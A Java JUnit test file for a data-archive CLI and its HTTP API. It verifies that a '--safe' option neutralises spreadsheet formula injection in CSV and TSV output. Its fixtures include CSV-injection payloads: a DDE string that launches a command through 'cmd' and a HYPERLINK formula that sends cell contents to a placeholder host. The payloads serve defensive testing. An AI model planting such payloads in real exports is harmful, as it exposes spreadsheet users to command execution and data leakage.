package org.kblake.test.names;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.kblake.cli.KblakeRun;
import org.kblake.core.model.Group;
import org.kblake.core.model.ValueType;
import org.kblake.test.fixture.TestStores;
import org.kblake.test.server.ServedSample;

/** Names and texts that a spreadsheet would run as formulas. */
final class FormulaTest {

  private static final String[] RANGE = {"--from=@1463324400", "--to=@1463324600"};
  private static final String API = "from=@1463324400&to=@1463324600&channel=*&format=csv";

  /** The text of a channel, by its name. */
  private static final Map<String, String> TEXTS = new LinkedHashMap<>();

  static {
    TEXTS.put("=K:A", "=HYPERLINK(\"http://x/\"&A1,\"y\")");
    TEXTS.put("+K:B", "+1+1");
    TEXTS.put("-K:C", "-1+cmd|' /C calc'!A0");
    TEXTS.put("@K:D", "@SUM(1)");
    TEXTS.put("K:E", "\t=1");
    TEXTS.put("K:F", "\r=1");
    TEXTS.put("K:G", "a=b");
    TEXTS.put("K:H", "'quoted'");
  }

  @TempDir private Path directory;
  private Path archive = Path.of("");

  @BeforeEach
  void write() throws IOException {
    archive = directory.resolve("archive");
    Map<String, ValueType> channels = new LinkedHashMap<>();
    TEXTS.keySet().forEach(name -> channels.put(name, ValueType.STRING));
    channels.put("K:NUMBER", ValueType.DOUBLE);
    NamedChannels.write(
        archive,
        Group.parse("VA/A"),
        channels,
        List.of(10, 60),
        (name, second) ->
            name.equals("K:NUMBER") ? -second : second == 10 ? "=0" : TEXTS.getOrDefault(name, ""));
    TestStores.closePairs(archive);
  }

  private String out(String... line) {
    KblakeRun run =
        KblakeRun.in(directory)
            .with("KBLAKE_ARCHIVE", "archive")
            .with("KBLAKE_ZONE", NamedChannels.ZONE.getId())
            .run(line);
    assertThat(run.status()).as(run.toString()).isZero();
    return run.out();
  }

  private static String[] with(String[] some, String... more) {
    List<String> all = new ArrayList<>(Arrays.asList(more));
    all.addAll(List.of(some));
    return all.toArray(String[]::new);
  }

  private static List<String> cells(String csv) throws IOException {
    List<String> cells = new ArrayList<>();
    try (MappingIterator<String[]> rows =
        new CsvMapper()
            .readerFor(String[].class)
            .with(CsvParser.Feature.WRAP_AS_ARRAY)
            .readValues(csv)) {
      rows.forEachRemaining(row -> cells.addAll(Arrays.asList(row)));
    }
    return cells;
  }

  private static void assertSafe(String csv) throws IOException {
    assertSafe(cells(csv));
  }

  private static void assertSafe(List<String> cells) {
    assertThat(cells).anyMatch(cell -> cell.matches("(?s)'[=+@\t\r-].*"));
    assertThat(cells)
        .allMatch(cell -> !cell.matches("(?s)[=+@\t\r\n-].*") || cell.matches("-\\d+\\.\\d+"));
  }

  @Test
  void noSafeCellIsAFormulaAtAnyDoor() throws IOException {
    assertSafe(out(with(RANGE, "get", "--safe", "K:*,[=+@-]K:*")));
    assertSafe(out(with(RANGE, "get", "--safe", "--wide", "--every=50s", "*")));
    assertSafe(out(with(RANGE, "get", "--safe", "--aggregate=last", "--every=50s", "*")));
    assertSafe(out(with(RANGE, "get", "--safe", "--columns=channel,value", "*")));
    assertSafe(out("get", "--safe", "--at=@1463324560", "*"));
    assertSafe(out(with(RANGE, "build", "--safe", "--event=K:NUMBER < -20", "*")));
    assertSafe(out("diff", "--safe", "-f", "csv", "--at=@1463324420", "--and=@1463324560"));
    assertSafe(Arrays.asList(out(with(RANGE, "get", "--safe", "-f", "tsv", "*")).split("[\t\n]")));
    try (ServedSample server = new ServedSample(archive, null)) {
      for (String door : List.of("data?", "table?every=50s&")) {
        assertSafe(server.get("/api/v1/" + door + API + "&safe=true").body());
        assertThat(server.get("/api/v1/" + door + API + "&safe=yes").statusCode()).isEqualTo(400);
        assertThat(cells(server.get("/api/v1/" + door + API).body())).containsAll(TEXTS.values());
      }
    } catch (Exception e) {
      throw new IOException(e);
    }
  }

  @Test
  void withoutTheOptionEachTextIsWrittenAsItIs() throws IOException {
    assertThat(cells(out(with(RANGE, "get", "*"))))
        .containsAll(TEXTS.keySet())
        .containsAll(TEXTS.values());
  }

  /** Whoever takes the apostrophes away has the data again. */
  @Test
  void onlyAnApostropheIsAdded() throws IOException {
    String plain = out(with(RANGE, "get", "*"));
    List<String> expected =
        cells(plain).stream()
            .map(
                cell ->
                    cell.matches("(?s)[=+@\t\r-].*") && !cell.matches("-\\d+\\.\\d+")
                        ? "'" + cell
                        : cell)
            .toList();
    assertThat(cells(out(with(RANGE, "get", "--safe", "*")))).isEqualTo(expected);
  }

  @Test
  void formatsWithoutFormulasRefuseTheOption() {
    for (String format : List.of("json", "ndjson", "parquet")) {
      KblakeRun run =
          KblakeRun.in(directory)
              .with("KBLAKE_ARCHIVE", "archive")
              .run(with(RANGE, "get", "--safe", "-f", format, "*"));
      assertThat(run.status()).isEqualTo(2);
      assertThat(run.err()).contains("--safe is for csv and tsv only").hasLineCount(1);
    }
  }
}
